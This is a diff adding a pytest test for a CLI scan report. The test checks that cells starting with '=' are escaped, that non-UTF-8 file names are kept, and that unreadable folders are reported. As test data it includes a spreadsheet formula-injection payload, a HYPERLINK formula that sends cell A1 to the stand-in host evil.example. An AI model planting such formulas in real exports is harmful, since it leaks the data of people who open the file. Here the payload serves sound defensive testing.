@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import os
 import threading
 
 import pytest
@@ -142,3 +143,33 @@ def test_refingerprint_names_works_whose_file_is_missing(client, make_user, sett
     result = CliRunner().invoke(cli_app, ["refingerprint"])
     assert result.exit_code == 1
     assert f"not recomputed: {work_id}: its file is not in the blob store" in result.output
+
+
+def test_scan_report_cells_are_text_and_unreadable_folders_are_reported(
+    client, make_user, cli_env, tmp_path, monkeypatch
+) -> None:
+    """A title or file name starting with = runs as a formula in the spreadsheet the report is opened in; a file
+    name that is not UTF-8 stopped the report; a folder that could not be read was skipped without a word."""
+    registered = encode(ASTRONAUT, "PNG")
+    make_user("Mallory").register(registered, title='=HYPERLINK("http://evil.example/?"&A1,"Click")', filename="a.png")
+    folder = tmp_path / "found"
+    (folder / "locked").mkdir(parents=True)
+    (folder / "=1+1.png").write_bytes(registered)
+    (folder / os.fsdecode(b"caf\xe9.txt")).write_bytes(b"not UTF-8 in its name")
+    real_scandir = os.scandir
+
+    def scandir(path):  # type: ignore[no-untyped-def]
+        if os.fspath(path).endswith("locked"):  # as a folder without read permission does for anyone but root
+            raise PermissionError(13, "Permission denied", os.fspath(path))
+        return real_scandir(path)
+
+    monkeypatch.setattr(os, "scandir", scandir)
+    monkeypatch.chdir(folder)  # `ipx scan .`: the report's paths are then the bare file names
+    report = tmp_path / "report.csv"
+    result = CliRunner().invoke(cli_app, ["scan", ".", "--out", str(report)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(report.open(encoding="utf-8")))
+    assert [row["path"] for row in rows] == ["locked", "'=1+1.png", "caf\\udce9.txt"]
+    assert rows[0]["status"] == "error: The folder could not be read (Permission denied)."
+    assert rows[1]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert "1 of 2 files match registered works; 1 could not be checked" in result.output
